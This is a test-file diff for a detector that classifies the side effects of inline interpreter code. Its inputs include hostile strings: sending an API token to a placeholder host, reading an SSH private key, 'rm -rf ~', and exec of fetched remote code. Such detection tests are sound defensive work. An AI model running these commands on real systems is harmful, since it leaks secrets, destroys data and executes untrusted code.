@@ -320,8 +320,18 @@ describe('inline interpreter code', () => {
     expect(inlineActions('{ print $1 "|" $2 }', 'awk')).toEqual([]);
     expect(inlineActions("open('out.txt', 'w').write('x')", 'python')).toEqual([{ kind: 'write', path: 'out.txt', via: 'open' }]);
     expect(inlineActions('import os; print(os.environ)', 'python')).toEqual([{ kind: 'env-dump', via: 'os.environ' }]);
-    expect(inlineActions("print(os.environ['HOME'])", 'python')).toEqual([]);
-    expect(inlineActions("exec(urlopen('https://x').read())", 'python').map((a) => a.kind)).toEqual(['dynamic', 'fetch-exec']);
+    expect(inlineActions("print(os.environ['HOME'])", 'python')).toEqual([{ kind: 'env-var', name: 'HOME', via: 'environ' }]);
+    expect(inlineActions("fetch('https://x.example/t?k=' + process.env.API_TOKEN)", 'js')).toEqual([
+      { kind: 'env-var', name: 'API_TOKEN', via: 'env' },
+      { kind: 'send', url: 'https://x.example/t?k=', via: 'a request to a URL' },
+    ]);
+    expect(inlineActions('open(F, "<", "/home/dev/.ssh/id_rsa"); print <F>', 'perl')).toEqual([
+      { kind: 'read', path: '/home/dev/.ssh/id_rsa', via: 'open' },
+    ]);
+    expect(inlineActions('open(my $fh, ">out.txt")', 'perl')).toEqual([{ kind: 'write', path: 'out.txt', via: 'open' }]);
+    expect(inlineActions('(shell-command "rm -rf ~")', 'lisp')).toEqual([{ kind: 'shell', command: 'rm -rf ~', via: 'shell-command' }]);
+    expect(inlineActions('(message "shell-command")', 'lisp')).toEqual([]);
+    expect(inlineActions("exec(urlopen('https://x').read())", 'python').map((a) => a.kind)).toEqual(['dynamic', 'fetch-exec', 'send']);
     expect(inlineActions("print('rm -rf /')", 'python')).toEqual([]);
     expect(inlineActions('app.run(host)', 'python')).toEqual([]);
   });
